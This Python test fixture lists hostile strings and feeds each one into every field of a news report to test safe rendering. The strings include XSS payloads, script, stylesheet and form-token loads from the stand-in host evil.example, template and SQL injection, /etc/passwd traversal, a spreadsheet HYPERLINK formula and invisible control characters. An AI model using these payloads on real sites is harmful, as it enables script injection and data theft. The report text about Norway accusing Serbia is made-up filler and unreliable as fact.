"""Strings that would run, break or forge a page if they were not written as text."""

from __future__ import annotations

import onrecord
from onrecord import Report

__all__ = ["HOSTILE", "hostile_reports"]

HOSTILE = (
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "'><script>window.pwned=1</script>",
    "`><script>window.pwned=1</script>",
    '"><img src=x onerror=window.pwned=1>',
    "<img src=x onerror=window.pwned=1>",
    "<img src='http://evil.example/track.gif'>",
    "<img/src=`x`onerror=window.pwned=1>",
    '<img src="x" onerror="&#119;indow.pwned=1">',
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>window.pwned=1</script>'>",
    "<body onload=window.pwned=1>",
    "<iframe src=javascript:window.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=javascript:window.pwned=1>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=token></form>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1>",
    "<audio src=x onerror=window.pwned=1>",
    "<marquee onstart=window.pwned=1>",
    "<a href=javascript:window.pwned=1>click</a>",
    "<a href='java\tscript:window.pwned=1'>click</a>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<div id=main>second</div>",
    "<div id=results></div><div id=told>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<plaintext>",
    "<xmp><script>window.pwned=1</script>",
    "<!--",
    "<![CDATA[<script>window.pwned=1</script>",
    "<?php echo 1 ?>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    r"\u003cscript\u003ewindow.pwned=1\u003c/script\u003e",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1//",
    "java\nscript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:msgbox(1)",
    "{{ 7*7 }}{{ config }}",
    "{% raw %}{{ cycler.__init__ }}{% endraw %}",
    "${7*7}#{7*7}",
    "<%= 7*7 %>",
    "'; DROP TABLE history.event; --",
    "' OR '1'='1",
    "%27%22%3E%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\u202egnp.exe\u202c right to left",
    "\u2066isolated\u2069 \u200b\u200d unseen",
    "nul \x00 and bell \x07 and escape \x1b[31m",
    "\ufeffmark \ufffe \uffff",
    "../../../../etc/passwd",
    "//evil.example/path",
    '=HYPERLINK("http://evil.example","x")',
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "Z\u0351\u036b\u0343" * 60,
    "W" * 3000,
)


def hostile_reports() -> list[Report]:
    """A report for each string, which stands in its words, title, publisher, address and key."""
    return [
        onrecord.read_text(
            f"Norway accused Serbia of sending 200 shells to Libya on Monday {text} and the minister of Norway"
            f' said: "They shipped {text} through Albania."',
            date="2023-09-05",
            title=f"A title {text}",
            url=text if ":" in text else f"https://news.example/{text}",
            publisher=f"Paper {text}",
            key=f"hostile-{number}-{text}",
        )
        for number, text in enumerate(HOSTILE)
    ]
